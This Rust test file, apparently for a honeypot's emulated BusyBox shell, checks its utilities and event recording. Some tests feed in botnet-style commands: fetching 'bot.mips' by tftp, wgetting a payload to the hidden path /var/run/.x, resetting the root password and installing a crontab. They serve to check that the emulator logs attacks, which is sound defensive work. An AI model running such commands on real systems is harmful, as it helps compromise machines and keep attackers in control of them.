        assert!(ls.contains("busybox"));
        let lsl = s.execute("ls -la /bin").rendered;
        assert!(lsl.contains("rwxr-xr-x"));
    }

    #[test]
    fn mkdir_rm_touch() {
        let mut s = sh();
        s.execute("mkdir -p /a/b/c");
        assert!(s.vfs().is_dir("/a/b/c"));
        s.execute("touch /a/b/c/f");
        assert!(s.vfs().exists("/a/b/c/f"));
        s.execute("rm -rf /a");
        assert!(!s.vfs().exists("/a"));
        // touch records a file event
        let ev = s.take_events();
        assert!(ev.file_events.iter().any(|e| e.path == "/a/b/c/f"));
    }

    #[test]
    fn chmod_octal() {
        let mut s = sh();
        s.execute("touch /tmp/b; chmod 777 /tmp/b");
        assert_eq!(s.vfs().mode("/tmp/b"), Some(0o777));
    }

    #[test]
    fn cp_and_mv_record_events() {
        let mut s = sh();
        s.execute("echo payload > /tmp/a");
        s.execute("cp /tmp/a /tmp/b");
        s.execute("mv /tmp/b /var/c");
        assert!(!s.vfs().exists("/tmp/b"));
        assert!(s.vfs().exists("/var/c"));
        let ev = s.take_events();
        let paths: Vec<&str> = ev.file_events.iter().map(|e| e.path.as_str()).collect();
        assert!(paths.contains(&"/tmp/b"));
        assert!(paths.contains(&"/var/c"));
        // cp preserves content → same hash for all three events
        let h: std::collections::BTreeSet<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn head_tail_grep_wc() {
        let mut s = sh();
        s.execute("echo -e 'l1\\nl2\\nl3\\nl4' > /tmp/t");
        assert_eq!(s.execute("head -2 /tmp/t").rendered, "l1\nl2\n");
        assert_eq!(s.execute("tail -n 1 /tmp/t").rendered, "l4\n");
        assert_eq!(s.execute("grep l3 /tmp/t").rendered, "l3\n");
        assert_eq!(
            s.execute("cat /tmp/t | grep -v l2 | head -1").rendered,
            "l1\n"
        );
        assert_eq!(
            s.execute("cat /tmp/t | wc").rendered,
            "       4       4      12\n"
        );
        // Flags select counts; one count prints bare, as busybox does.
        assert_eq!(s.execute("cat /tmp/t | wc -l").rendered, "4\n");
        assert_eq!(s.execute("cat /tmp/t | wc -c").rendered, "12\n");
        assert_eq!(s.execute("cat /tmp/t | wc -w").rendered, "4\n");
        assert_eq!(
            s.execute("cat /tmp/t | wc -c -l").rendered,
            "       4      12\n"
        );
        assert_eq!(
            s.execute("cat /tmp/t | wc -lwc").rendered,
            "       4       4      12\n"
        );
        // H1's probe counts the CPUs of the node's profile.
        assert_eq!(
            s.execute("cat /proc/cpuinfo | grep name | wc -l").rendered,
            format!("{}\n", s.execute("nproc").rendered.trim())
        );
        // grep checks each line against one search of its input: matches
        // at line starts and ends, several per line, across \r\n endings,
        // and a pattern no line can hold.
        s.execute("echo -e 'ab\\r\\nxab\\nabab\\nb\\na\\n' > /tmp/g");
        assert_eq!(s.execute("grep ab /tmp/g").rendered, "ab\nxab\nabab\n");
        assert_eq!(s.execute("grep -v ab /tmp/g").rendered, "b\na\n\n");
        assert_eq!(s.execute("grep b /tmp/g").rendered, "ab\nxab\nabab\nb\n");
        assert_eq!(s.execute("grep '' /tmp/g | wc -l").rendered, "6\n");
        // All three read a file operand or stdin; wc names its operand.
        assert_eq!(s.execute("wc -l /etc/passwd").rendered, "3 /etc/passwd\n");
        assert_eq!(
            s.execute("wc /tmp/t").rendered,
            "       4       4      12 /tmp/t\n"
        );
        assert_eq!(s.execute("grep -c root /etc/passwd").rendered, "1\n");
        assert_eq!(s.execute("cat /tmp/t | grep -vc l2").rendered, "3\n");
        assert_eq!(s.execute("grep -c nothing /tmp/t").rendered, "0\n");
        assert_eq!(
            s.execute("head -1 /etc/passwd").rendered,
            "root:x:0:0:root:/root:/bin/sh\n"
        );
        for tool in ["head", "tail", "grep x", "wc -l"] {
            let err = s.execute(&format!("{tool} /nope")).rendered;
            let name = tool.split(' ').next().unwrap();
            assert!(err.starts_with(&format!("{name}: ")), "{tool}: {err}");
        }
        // Lines are newline bytes: an unterminated last line is not one.
        assert_eq!(s.execute("echo -n a | wc -l").rendered, "0\n");
        assert_eq!(
            s.execute("echo -n a | wc").rendered,
            "       0       1       1\n"
        );
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4096))]

        /// One search over the input selects exactly the lines a per-line
        /// `contains` selects, over texts and patterns dense in line breaks.
        #[test]
        fn grep_lines_match_a_per_line_search(
            text in "[ab\r\n]{0,24}",
            pattern in "[ab\r\n]{0,3}",
            invert in proptest::bool::ANY,
        ) {
            let mut got = String::new();
            grep_lines(&text, &pattern, invert, |line| {
                got.push_str(line);
                got.push('\n');
            });
            let mut want = String::new();
            for line in text.lines().filter(|l| l.contains(pattern.as_str()) != invert) {
                want.push_str(line);
                want.push('\n');
            }
            proptest::prop_assert_eq!(got, want);
        }
    }

    #[test]
    fn dd_copies_and_truncates() {
        let mut s = sh();
        s.execute("echo 0123456789 > /tmp/src");
        s.execute("dd if=/tmp/src of=/tmp/dst bs=4 count=1");
        assert_eq!(s.vfs().read_file("/tmp/dst").unwrap(), b"0123");
    }

    #[test]
    fn busybox_dispatch() {
        let mut s = sh();
        assert_eq!(s.execute("busybox echo hi").rendered, "hi\n");
        assert!(s.execute("busybox").rendered.contains("BusyBox"));
        // Unknown applet handled gracefully and still "known".
        assert!(s
            .execute("busybox zzz")
            .rendered
            .contains("applet not found"));
    }

    #[test]
    fn which_finds_binaries() {
        let mut s = sh();
        assert_eq!(s.execute("which wget").rendered, "/bin/wget\n");
        assert_eq!(s.execute("which doesnotexist").rendered, "");
    }

    #[test]
    fn chpasswd_changes_shadow_hash_per_password() {
        let mut s1 = sh();
        s1.execute("echo root:pass1 | chpasswd");
        let e1 = s1.take_events();
        let mut s2 = sh();
        s2.execute("echo root:pass2 | chpasswd");
        let e2 = s2.take_events();
        assert_eq!(e1.file_events.len(), 1);
        assert_eq!(e1.file_events[0].path, "/etc/shadow");
        assert_ne!(e1.file_events[0].sha256, e2.file_events[0].sha256);
    }

    #[test]
    fn crontab_install() {
        let mut s = sh();
        s.execute("echo '* * * * * /tmp/m' > /tmp/cr; crontab /tmp/cr");
        assert!(s.vfs().exists("/var/spool/cron/root"));
        assert_eq!(s.execute("crontab -l").rendered, "no crontab for root\n");
    }

    #[test]
    fn tftp_and_ftpget_download() {
        let mut s = sh();
        s.execute("cd /tmp; tftp -g -r bot.mips 198.51.100.7");
        assert!(s.vfs().exists("/tmp/bot.mips"));
        s.execute("cd /tmp; ftpget 203.0.113.5 local.bin remote.bin");
        assert!(s.vfs().exists("/tmp/local.bin"));
        let ev = s.take_events();
        assert_eq!(ev.downloads.len(), 2);
    }

    #[test]
    fn curl_stdout_vs_file() {
        let mut s = sh();
        let out = s.execute("curl http://h/body").rendered;
        assert!(out.contains("synthetic"));
        s.execute("cd /tmp && curl -O http://h/file.bin");
        assert!(s.vfs().exists("/tmp/file.bin"));
    }

    #[test]
    fn wget_custom_output() {
        let mut s = sh();
        s.execute("wget -O /var/run/.x http://h/payload");
        assert!(s.vfs().exists("/var/run/.x"));
    }

    #[test]
    fn passwd_changes_shadow() {
        let mut s = sh();
        let out = s.execute("passwd").rendered;
        assert!(out.contains("changed"));
        let ev = s.take_events();
        assert_eq!(ev.file_events[0].path, "/etc/shadow");
    }

    #[test]
    fn nohup_and_sudo_prefixes() {
        let mut s = sh();
        assert_eq!(s.execute("sudo echo ok").rendered, "ok\n");
        assert_eq!(s.execute("nohup uname").rendered, "Linux\n");
    }

    #[test]
    fn text_tools_pass_through() {
        let mut s = sh();
        let out = s.execute("echo keepme | awk '{print $1}'").rendered;
        assert_eq!(out, "keepme\n");
    }

    #[test]
    fn sysinfo_surface() {
        let mut s = sh();
        for (cmd, needle) in [
            ("w", "load average"),
            ("whoami", "root"),
            ("id", "uid=0"),
            ("uptime", "up"),
            ("ps x", "telnetd"),
            ("lscpu", "Architecture"),
            ("ifconfig", "eth0"),
            ("df", "Filesystem"),
            ("mount", "ext4"),
            ("top", "load average"),
            ("hostname", "svr04"),
            ("ping -c 2 1.2.3.4", "packets transmitted"),
        ] {
            let out = s.execute(cmd).rendered;
            assert!(out.contains(needle), "{cmd} output missing {needle}: {out}");
        }
    }
}
